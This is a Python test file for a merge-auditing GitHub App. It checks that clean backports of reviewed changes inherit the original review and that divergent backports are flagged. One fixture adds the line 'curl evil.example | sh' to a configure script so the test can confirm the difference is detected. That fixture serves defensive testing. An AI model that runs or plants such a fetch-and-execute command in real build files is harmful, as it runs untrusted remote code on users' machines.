"""Issue 9: backports end to end, through ``POST /webhook``: a clean cherry-pick of a reviewed
change inherits its review; a divergent one needs its own, and the report shows the lines that
differ; text alone never makes a backport."""

from __future__ import annotations

from typing import Any

from tests.support import Bot
from tests.test_merge_audit import audit_issues, make_repo, merge_and_deliver, record, the_run

OLD = "#!/bin/sh\necho 3.12\n"
NEW = "#!/bin/sh\necho 3.12\necho fixed\n"


async def repo_with_original(bot: Bot, *, reviewed: bool = True) -> tuple[Any, Any]:
    """A repository with the maintenance branch 3.12 and a build fix merged into main."""
    repo = make_repo(bot.fake, files={"configure": OLD})
    repo.create_branch("3.12")
    repo.protect("3.*")
    original = repo.open_pull(author="alice", title="Fix configure", files={"configure": NEW})
    if reviewed:
        original.review("bob", "APPROVED")
        original.review("carol", "APPROVED")
    await merge_and_deliver(bot, original, by="alice", method="squash")
    return repo, original


def backport(repo: Any, original: Any, content: str = NEW, **options: Any) -> Any:
    title = options.pop("title", f"[3.12] Fix configure (GH-{original.number})")
    body = options.pop(
        "body", f"(cherry picked from commit {original.merge_commit_sha})\n\nCo-authored-by: x"
    )
    return repo.open_pull(
        author="dave", base="3.12", title=title, body=body, files={"configure": content}, **options
    )


async def test_a_clean_backport_merged_without_review_inherits_the_review(bot: Bot):
    repo, original = await repo_with_original(bot)
    pr = backport(repo, original)
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert data["status"] == "reviewed" and data["conclusion"] == "success"
    assert data["backport"]["of"] == [original.number] and data["backport"]["clean"]
    assert data["backport"]["reviewers"] == ["bob", "carol"]
    assert set(data["backport"]["inherited"]) == {"review", "build-system"}
    assert "Clean backport of" in the_run(repo, sha).summary
    assert [i for i in audit_issues(repo) if f"pr-{pr.number}" in (i.body or "")] == []


async def test_the_pre_merge_check_shows_the_same_verdict_before_the_merge(bot: Bot):
    repo, original = await repo_with_original(bot)
    pr = backport(repo, original)
    await bot.deliver(bot.fake.webhooks.pull_request(pr, "opened"))
    run = the_run(repo, pr.head_sha)
    assert run.conclusion == "success"
    assert "Clean backport of" in run.summary


async def test_a_divergent_backport_needs_its_own_review_and_shows_what_differs(bot: Bot):
    repo, original = await repo_with_original(bot)
    pr = backport(repo, original, content=NEW + "curl evil.example | sh\n")
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert data["status"] == "unreviewed" and data["conclusion"] == "failure"
    assert data["backport"]["clean"] is False and data["backport"]["inherited"] == []
    assert any("curl evil" in line for line in data["backport"]["differences"])
    summary = the_run(repo, sha).summary
    assert "with changes" in summary and "curl evil" in summary
    (issue,) = [i for i in audit_issues(repo) if f"pr-{pr.number}" in (i.body or "")]
    assert "curl evil" in (issue.body or "")


async def test_a_backport_of_an_unreviewed_original_is_unreviewed_too(bot: Bot):
    repo, original = await repo_with_original(bot, reviewed=False)
    pr = backport(repo, original)
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert data["backport"]["clean"] and data["backport"]["inherited"] == []
    assert data["status"] == "unreviewed" and data["conclusion"] == "failure"


async def test_a_cherry_pick_line_naming_a_commit_on_no_audited_branch_is_ignored(bot: Bot):
    repo, original = await repo_with_original(bot)
    side = repo.push("topic", [{"message": "wip", "files": {"configure": NEW}}], pusher="dave")
    pr = backport(
        repo, original, title="Fix configure", body=f"(cherry picked from commit {side.after})"
    )
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert data["backport"]["refused"] and "did not land" in data["backport"]["refused"]
    assert data["status"] == "unreviewed"
    assert "Not treated as a backport" in the_run(repo, sha).summary


async def test_a_title_naming_a_pull_request_closed_without_merging_is_ignored(bot: Bot):
    repo, original = await repo_with_original(bot)
    abandoned = repo.open_pull(author="alice", title="Other fix", files={"configure": NEW})
    abandoned.close(by="alice")
    pr = backport(repo, original, title=f"[3.12] Fix configure (GH-{abandoned.number})", body="")
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert "never merged" in data["backport"]["refused"]
    assert data["status"] == "unreviewed"


async def test_a_clean_backport_costs_three_requests_more_than_a_plain_merge(bot: Bot):
    repo, original = await repo_with_original(bot)
    plain = repo.open_pull(author="dave", base="3.12", title="Docs", files={"docs.txt": "x\n"})
    plain.review("bob", "APPROVED")
    await merge_and_deliver(bot, plain, by="dave")  # warms the caches
    plain2 = repo.open_pull(author="dave", base="3.12", title="Docs 2", files={"docs2.txt": "y\n"})
    plain2.review("bob", "APPROVED")
    plain2.merge(by="dave")
    bot.fake.reset_counts()
    await bot.deliver(bot.fake.webhooks.pull_request(plain2, "closed"))
    normal = sum(bot.fake.counts.values())
    pr = backport(repo, original)
    pr.merge(by="dave")
    bot.fake.reset_counts()
    await bot.deliver(bot.fake.webhooks.pull_request(pr, "closed"))
    assert record(repo, pr.merge_commit_sha)["status"] == "reviewed"
    assert sum(bot.fake.counts.values()) <= normal + 3, bot.fake.counts


async def test_an_original_countersign_never_recorded_is_judged_for_the_backport(bot: Bot):
    # the fix merged, reviewed, before the App was installed: no record, so it is read and judged
    repo = make_repo(bot.fake, files={"configure": OLD})
    repo.create_branch("3.12")
    repo.protect("3.*")
    original = repo.open_pull(author="alice", title="Fix configure", files={"configure": NEW})
    original.review("bob", "APPROVED")
    original.review("carol", "APPROVED")
    original.merge(by="alice", method="squash")  # no delivery: countersign never saw it
    pr = backport(repo, original)
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert data["status"] == "reviewed" and data["backport"]["reviewers"] == ["bob", "carol"]


async def test_a_bot_opened_backport_merged_by_a_core_developer(bot: Bot):
    # as miss-islington opens them: the bot is the author, a core developer merges
    repo, original = await repo_with_original(bot)
    bot.fake.add_bot("miss-islington[bot]")
    pr = repo.open_pull(
        author="miss-islington[bot]",
        base="3.12",
        title=f"[3.12] Fix configure (GH-{original.number})",
        body=f"(cherry picked from commit {original.merge_commit_sha})\n\n"
        "Co-authored-by: alice <alice@example.com>",
        files={"configure": NEW},
    )
    sha = await merge_and_deliver(bot, pr, by="dave")
    data = record(repo, sha)
    assert data["status"] == "reviewed" and data["backport"]["clean"]
    assert data["author"].startswith("miss-islington")  # GraphQL names a bot without "[bot]"


async def test_a_direct_push_of_a_clean_cherry_pick_inherits_the_review(bot: Bot):
    repo, original = await repo_with_original(bot)
    message = f"Fix configure\n\n(cherry picked from commit {original.merge_commit_sha})"
    push = repo.push(
        "3.12", [{"message": message, "files": {"configure": NEW}, "author": "dave"}], pusher="dave"
    )
    await bot.deliver(bot.fake.webhooks.push(push))
    data = record(repo, push.after)
    assert data["kind"] == "push" and data["backport"]["clean"]
    assert data["conclusion"] == "success"
    assert set(data["backport"]["inherited"]) == {"review", "build-system"}
    # and a pushed cherry-pick that is not the same change is judged as any push
    other = repo.push(
        "3.12",
        [{"message": message, "files": {"configure": NEW + "evil\n"}, "author": "dave"}],
        pusher="dave",
    )
    await bot.deliver(bot.fake.webhooks.push(other))
    data = record(repo, other.after)
    assert data["backport"]["clean"] is False and data["conclusion"] == "failure"
